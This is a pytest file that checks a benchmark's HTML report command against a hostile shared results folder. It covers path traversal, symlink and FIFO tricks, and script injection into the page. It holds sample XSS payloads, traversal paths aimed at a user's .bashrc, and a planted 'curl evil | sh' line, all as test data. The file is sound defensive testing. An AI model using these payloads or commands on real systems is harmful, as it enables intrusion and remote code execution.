"""bench report on a results folder built by an attacker (issue 30, item 7): a shared folder
must neither make the report write or copy outside it, nor put script into the page.

Every test builds the same layout under tmp_path and checks, besides its own message, that
nothing outside --out was written or changed and that no byte from outside the results
folder reached --out:

    home/.bashrc                the user's file a traversing path aims at
    outside/                    the attacker's targets outside the results folder
    shared/.bashrc              the attacker's bytes one level above the results folder
    shared/results/setA/run/    summary.csv, frames.csv, manifest.json
    shared/results/setA/visuals/<name>/visualize.json and its images
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from bench.cli import main

SECRET = b"SECRET-OUTSIDE-THE-RESULTS"
HONEST = ("vvenc", "x265")
# each sets a marker the browser test reads, or opens a dialog, if it ever runs. The first
# sorts first (and has no double quote, which JSON would escape): on main, where @@DATA@@
# pasted the page's raw JSON into the HTML, it ran before <!-- swallowed the rest
HOSTILE_CODECS = (
    "@@DATA@@",
    "!<img src=x onerror=document.title='pwned'>",
    "</script><script>window.__pwned='script'</script>",
    "<!--<script>",
    "<svg onload=alert(1)>@@PROVENANCE@@",
)
HOSTILE_SEQUENCE = "<img src=y onerror=window.__pwned='sequence'>@@DATA@@"
HOSTILE_FRAME_TYPE = "<img src=z onerror=window.__pwned='frame'>"
PAYLOADS = (*HOSTILE_CODECS, HOSTILE_SEQUENCE, HOSTILE_FRAME_TYPE)


def _png(colour: tuple[int, int, int]) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (24, 16), colour).save(buf, format="PNG")
    return buf.getvalue()


def _summary_rows() -> tuple[pd.DataFrame, pd.DataFrame]:
    rows, frames = [], []
    for i, codec in enumerate((*HONEST, *HOSTILE_CODECS)):
        for seq in ("s1", HOSTILE_SEQUENCE):
            for k, qp in enumerate(("22", "27", "32", "37")):
                bpp = 0.4 / 2**k * (1 + 0.05 * i)
                key = {"dataset": "setA", "sequence": seq, "codec": codec, "rate": qp}
                rows.append(
                    {**key, "frames": 2, "bpp": bpp, "psnr_yuv": 40 - 3 * k - 0.2 * i, "bitstream": f"bitstreams/{codec}.bin", "bitstream_md5": "0" * 32}
                )
                for f, kind in enumerate(("I", HOSTILE_FRAME_TYPE)):
                    frames.append({**key, "frame": f, "frame_type": kind, "bits": 1000.0 / (f + 1), "psnr_yuv": 40.0 - k})
    return pd.DataFrame(rows), pd.DataFrame(frames)


def _visual(folder: Path, images: dict[str, bytes], **fields) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in images.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    info = {
        "dataset": "setA",
        "sequence": "s1",
        "frame": 1,
        "crop": {"x": 0, "y": 0, "w": 24, "h": 16},
        "row": 8,
        "target_bpp": 0.1,
        "picks": [
            {
                "codec": "x265",
                "rate": "32",
                "bpp": 0.1,
                "why": "nearest",
                "notes": [],
                "metrics": {"psnr_yuv": 35.0},
                "crop": "crops/x265.png",
                "xt": "xt/x265.png",
            }
        ],
        "source": None,
        "compare": "compare.png",
        "xt": "xt.png",
        "notes": [],
    }
    info.update(fields)
    (folder / "visualize.json").write_text(json.dumps(info))


class Layout:
    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.home = tmp / "home"
        self.outside = tmp / "outside"
        self.results = tmp / "shared" / "results"
        self.visuals = self.results / "setA" / "visuals"
        self.out = self.home / "r" / "report"  # out/visuals/NN/../../../../.bashrc is home/.bashrc
        self.honest = {"compare.png": _png((200, 30, 30)), "xt.png": _png((30, 200, 30)), "crops/x265.png": _png((9, 9, 9)), "xt/x265.png": _png((1, 2, 3))}

        self.out.mkdir(parents=True)  # made before any snapshot: making it changes its parent
        (self.home / ".bashrc").write_text("the user's own\n")
        self.outside.mkdir()
        (self.outside / "secret.png").write_bytes(SECRET)
        (tmp / "shared").mkdir()
        (tmp / "shared" / ".bashrc").write_bytes(SECRET + b" curl evil | sh\n")
        run = self.results / "setA" / "run"
        run.mkdir(parents=True)
        summary, frames = _summary_rows()
        summary.to_csv(run / "summary.csv", index=False)
        frames.to_csv(run / "frames.csv", index=False)
        manifest = {
            "provenance": {"command": ["bench", "@@DATA@@", "<img src=m onerror=window.__pwned='manifest'>"], "git_commit": "</script><!--<script>"},
            "counts": {"<b>done</b>": 1},
        }
        (run / "manifest.json").write_text(json.dumps(manifest))
        _visual(self.visuals / "honest", self.honest)

    def report(self, *extra: str) -> int:
        return main(["report", "--results", str(self.results), "--out", str(self.out), *extra])

    def snapshot(self) -> dict[str, tuple]:
        """Every entry under tmp_path but --out: kind, bytes (or link target) and mtime."""
        seen = {}
        for dirpath, dirnames, filenames in os.walk(self.tmp, followlinks=False):
            d = Path(dirpath)
            if d == self.out or self.out in d.parents:
                continue
            for name in dirnames + filenames:
                p = d / name
                if p == self.out:
                    continue
                st = os.lstat(p)
                if p.is_symlink():
                    body = os.readlink(p)
                elif p.is_file():
                    body = hashlib.sha256(p.read_bytes()).hexdigest()
                else:
                    body = None
                seen[str(p)] = (st.st_mode, body, st.st_mtime_ns)
        return seen

    def copied(self) -> list[bytes]:
        """The bytes of every file under --out/visuals."""
        visuals = self.out / "visuals"
        if visuals.is_symlink() or not visuals.is_dir():  # a planted link is the test's, not a copy
            return []
        return [p.read_bytes() for p in sorted(visuals.rglob("*")) if p.is_file() and not p.is_symlink()]

    def assert_contained(self, before: dict[str, tuple]) -> None:
        assert self.snapshot() == before, "something outside --out was written or changed"
        for p in self.out.rglob("*") if self.out.is_dir() else []:
            if p.is_file() and not p.is_symlink():
                assert SECRET not in p.read_bytes(), f"{p} holds bytes from outside the results folder"
        assert set(self.copied()) <= set(self.honest.values()), "a file that is not an honest visual's image was copied"


@pytest.fixture
def layout(tmp_path) -> Layout:
    return Layout(tmp_path)


def _page(layout: Layout) -> str:
    return (layout.out / "index.html").read_text()


def _warnings(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("warning: ")]


# --- paths that leave their folder ---------------------------------------------------------------


def test_traversing_and_absolute_names_are_left_out_with_a_warning(layout, capsys):
    # the attack seen on main: out/visuals/NN/../../../../.bashrc overwrote home/.bashrc
    _visual(layout.visuals / "trav", {}, compare="../../../../.bashrc")
    _visual(layout.visuals / "abs", {"xt.png": b"x"}, compare=str(layout.outside / "secret.png"))
    pick = {"codec": "x265", "rate": "32", "bpp": 0.1, "why": "", "crop": "crops/../../../../../outside/secret.png", "xt": "xt.png"}
    _visual(layout.visuals / "pick", {"compare.png": layout.honest["compare.png"], "xt.png": layout.honest["xt.png"]}, picks=[pick])
    before = layout.snapshot()
    assert layout.report() == 0
    warned = _warnings(capsys.readouterr().err)
    assert len(warned) == 3
    assert any(f"{layout.visuals / 'trav' / 'visualize.json'}: '../../../../.bashrc' leaves its folder (..); left out" in w for w in warned)
    assert any(f"'{layout.outside / 'secret.png'}' is an absolute path; only names below the folder are read; left out" in w for w in warned)
    assert any("crops/../../../../../outside/secret.png' leaves its folder (..)" in w for w in warned)
    page = _page(layout)
    assert "leaves its folder" in page and 'src="visuals/00/compare.png"' in page and "visuals/01" not in page
    assert layout.copied() and (layout.out / "visuals" / "00" / "compare.png").read_bytes() == layout.honest["compare.png"]
    layout.assert_contained(before)


# --- links ----------------------------------------------------------------------------------------


def test_links_in_the_results_folder_are_not_followed(layout, capsys):
    # a linked compare.png: on main its target was copied into the page
    _visual(layout.visuals / "file", {"xt.png": layout.honest["xt.png"]})
    (layout.visuals / "file" / "compare.png").symlink_to(layout.outside / "secret.png")
    # a linked folder on the way to an image
    _visual(layout.visuals / "dir", {"xt.png": layout.honest["xt.png"]}, compare="sub/secret.png")
    (layout.visuals / "dir" / "sub").symlink_to(layout.outside)
    # a linked visualize.json, whose images sit outside
    _visual(layout.outside / "vis", {"compare.png": SECRET})
    (layout.visuals / "json").mkdir()
    (layout.visuals / "json" / "visualize.json").symlink_to(layout.outside / "vis" / "visualize.json")
    # a linked visual folder is not even searched
    (layout.visuals / "folder").symlink_to(layout.outside / "vis")
    before = layout.snapshot()
    assert layout.report() == 0
    warned = _warnings(capsys.readouterr().err)
    assert len(warned) == 3 and all("is a symbolic link; links in a results folder are not followed; left out" in w for w in warned)
    assert {re.search(r"visuals/(\w+)/", w).group(1) for w in warned} == {"file", "dir", "json"}
    assert "links in a results folder are not followed" in _page(layout)
    layout.assert_contained(before)


# --- things that are not plain files ----------------------------------------------------------------


def test_a_fifo_or_a_folder_in_place_of_an_image_is_left_out(layout, capsys):
    _visual(layout.visuals / "fifo", {"xt.png": layout.honest["xt.png"]})
    os.mkfifo(layout.visuals / "fifo" / "compare.png")  # reading it would hang the report
    _visual(layout.visuals / "dir", {"compare.png/inner": b"x", "xt.png": layout.honest["xt.png"]})
    before = layout.snapshot()
    assert layout.report() == 0
    warned = _warnings(capsys.readouterr().err)
    assert len(warned) == 2 and all("compare.png is not a regular file; left out" in w for w in warned)
    layout.assert_contained(before)


def test_malformed_visualize_json_is_left_out_and_the_rest_is_built(layout, capsys):
    for name, text in (("notjson", "{"), ("list", "[]"), ("picks", '{"picks": 3}'), ("name", '{"picks": [], "compare": 5}')):
        (layout.visuals / name).mkdir()
        (layout.visuals / name / "visualize.json").write_text(text)
    before = layout.snapshot()
    assert layout.report() == 0
    warned = _warnings(capsys.readouterr().err)
    assert len(warned) == 4 and sum("not what `bench visualize` writes" in w for w in warned) == 2
    assert any("Expecting property name" in w for w in warned) and any("5 is not a file name" in w for w in warned)
    assert 'src="visuals/00/compare.png"' in _page(layout)
    layout.assert_contained(before)


# --- links planted where the report writes ----------------------------------------------------------


def test_links_planted_in_out_are_refused_or_replaced_never_followed(layout, capsys):
    # --out inside the shared folder (the default results/report lies in the default results/)
    layout.out = layout.results / "report"
    layout.out.mkdir()
    (layout.out / "index.html").symlink_to(layout.home / ".bashrc")
    (layout.out / "plotly.min.js").symlink_to(layout.home / ".bashrc")
    (layout.out / "visuals").symlink_to(layout.home)
    before = layout.snapshot()
    assert layout.report() == 2
    err = capsys.readouterr().err
    assert f"error: {layout.out / 'visuals'} is a symbolic link; nothing is written through one: the report writes only under --out" in err
    assert (layout.out / "plotly.min.js").is_file() and not (layout.out / "plotly.min.js").is_symlink()  # replaced, not followed
    layout.assert_contained(before)

    (layout.out / "visuals").unlink()
    assert layout.report() == 0
    assert not (layout.out / "index.html").is_symlink() and "bench-data" in _page(layout)
    layout.assert_contained(before)

    linked = layout.results / "linked-report"
    linked.symlink_to(layout.home)
    before = layout.snapshot()
    assert main(["report", "--results", str(layout.results), "--out", str(linked)]) == 2
    assert f"--out {linked} is a symbolic link (to {layout.home}); pass the folder it points to" in capsys.readouterr().err
    layout.assert_contained(before)


# --- markup and slots in names --------------------------------------------------------------------


def _data_block(page: str) -> str:
    start = page.index('<script type="application/json" id="bench-data">') + len('<script type="application/json" id="bench-data">')
    return page[start : page.index("</script>", start)]


def test_names_and_visual_fields_stay_text_in_one_pass_fill(layout, capsys):
    fields = {
        "frame": "<img src=f onerror=window.__pwned='vframe'>",
        "row": "<!--<script>",
        "crop": {"x": "@@DATA@@", "y": "</script>", "w": "<b>", "h": 1},
        "dataset": "<i>set</i>",
        "target_bpp": "@@SCRIPT@@",
    }
    _visual(layout.visuals / "fields", layout.honest, **fields)
    before = layout.snapshot()
    assert layout.report() == 0
    assert _warnings(capsys.readouterr().err) == []
    page = _page(layout)
    for payload in (*PAYLOADS, *(v for v in fields.values() if isinstance(v, str))):
        if "<" in payload:
            assert payload not in page, f"{payload!r} reached the page as markup"
    assert page.count("<script") == 3  # plotly.min.js, the data, the page's script: nothing else
    # each slot filled once: a name equal to a slot stayed text
    assert page.count('id="bench-data"') == 1 and page.count('<section class="run">') == 1 and "@@PROVENANCE@@" in page
    data = _data_block(page)
    assert not set("<>&") & set(data)
    parsed = json.loads(data)
    names = {t["name"] for t in parsed["figures"]["rd-setA-psnr_yuv"]["data"]}
    assert {"x265", "vvenc", "&lt;!--&lt;script&gt;", "@@DATA@@"} <= names
    assert "crop &lt;b&gt;x1 at (@@DATA@@, &lt;/script&gt;)" in page and "frame &lt;img src=f" in page
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1)
    script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
    assert "unsafe-inline" not in script_src and "'sha256-" in script_src
    layout.assert_contained(before)


# --- in a real browser ----------------------------------------------------------------------------


def _chromium() -> str:
    exe = os.environ.get("BENCH_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    if not exe:
        pytest.fail("the browser tests need Chromium: `bash .ci/install-browser`, or BENCH_CHROMIUM=/path/to/chrome; skip them with -m 'not browser'")
    return exe


@pytest.mark.browser
def test_an_attackers_results_folder_runs_no_script_in_chromium(layout, capsys):
    from playwright.sync_api import sync_playwright

    from bench.htmlreport import curve_counts
    from bench.store import read_summaries

    _visual(layout.visuals / "trav", {}, compare="../../../../.bashrc")
    _visual(layout.visuals / "link", {"xt.png": layout.honest["xt.png"]})
    (layout.visuals / "link" / "compare.png").symlink_to(layout.outside / "secret.png")
    _visual(layout.visuals / "fields", layout.honest, frame="<img src=f onerror=alert('frame')>", row="<!--<script>", crop={"x": "</script>"})
    before = layout.snapshot()
    assert layout.report("--title", "hostile") == 0
    assert len(_warnings(capsys.readouterr().err)) == 2
    layout.assert_contained(before)

    flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"]
    console, dialogs = [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=_chromium(), args=flags)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.on("console", lambda m: console.append(f"{m.type}: {m.text}") if m.type in ("error", "warning") else None)
            page.on("pageerror", lambda e: console.append(f"pageerror: {e}"))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto((layout.out / "index.html").as_uri())
            page.wait_for_selector("body[data-ready='1']", timeout=60_000)
            # every view that shows the results' strings: the hostile sequence and codec too
            page.select_option("#seq-select", index=1)
            page.select_option("#fr-seq", index=1)
            page.select_option("#fr-codec", HOSTILE_CODECS[1])
            page.wait_for_timeout(300)
            ran = page.evaluate("() => [window.__pwned, document.title]")
            drawn = page.evaluate(
                "() => Object.fromEntries(Array.from(document.querySelectorAll('.plot.rd')).map(d => [d.id, d.querySelectorAll('.scatterlayer .trace').length]))"
            )
            names = page.evaluate("() => document.getElementById('rd-setA-psnr_yuv').data.map(t => t.name)")
            legend = page.evaluate("() => Array.from(document.querySelectorAll('#rd-setA-psnr_yuv .legendtext')).map(t => t.textContent)")
            images = page.evaluate("() => Array.from(document.querySelectorAll('img')).map(i => [i.getAttribute('src'), i.complete && i.naturalWidth > 0])")
        finally:
            browser.close()
    assert ran == [None, "hostile"] and dialogs == [] and console == []
    assert drawn == curve_counts(read_summaries([layout.results])) and drawn["rd-setA-psnr_yuv"] == len(HONEST) + len(HOSTILE_CODECS)
    assert {"x265", "vvenc"} <= set(names)
    assert set(HOSTILE_CODECS) <= set(legend)  # shown as the text they are
    assert images == [["visuals/00/compare.png", True], ["visuals/00/xt.png", True], ["visuals/01/compare.png", True], ["visuals/01/xt.png", True]]
    layout.assert_contained(before)


def test_a_records_cost_note_and_codec_name_stay_text(tmp_path):
    """The complexity table reads each job's decode_leaves_out from its record: text from the
    folder, escaped like every other value; a record that is not a record is left out."""
    from bench.htmlreport import _complexity_html
    from bench.store import ResultsStore

    store = ResultsStore(tmp_path / "run")
    codec = "<img src=x onerror=alert(1)>"
    summary_row = {"dataset": "d", "sequence": "s", "codec": codec, "rate": "1", "frames": 2, "width": 64, "height": 64}
    summary_row |= {"encode_s_per_frame": 0.5, "decode_s_per_frame": 0.25, "bpp": 0.1}
    record = {"job_id": "j", "status": "done", "codec": codec, "decode_leaves_out": "</td><script>alert(2)</script>", "summary": summary_row}
    store.commit(record, None)
    store.record_path("broken").write_text("[1, 2]")  # not a record: ignored
    html = _complexity_html(pd.DataFrame([{**summary_row, "results_dir": str(store.root)}]))
    assert "<script>" not in html and "<img" not in html
    assert "&lt;/td&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_job_records_behind_a_fifo_or_a_link_are_not_read(tmp_path):
    """Readers of a folder's records (the report's complexity notes among them) read regular
    files below the folder only: a FIFO would hang them, a link to /dev/zero fill memory."""
    from bench.store import ResultsStore

    store = ResultsStore(tmp_path / "run")
    store.commit({"job_id": "ok", "status": "done", "codec": "x265"}, None)
    os.mkfifo(store.record_path("fifo"))
    store.record_path("zero").symlink_to("/dev/zero")
    (store.jobs_dir / "dir.json").mkdir()
    assert [r.job_id for r in store.jobs()] == ["ok"]
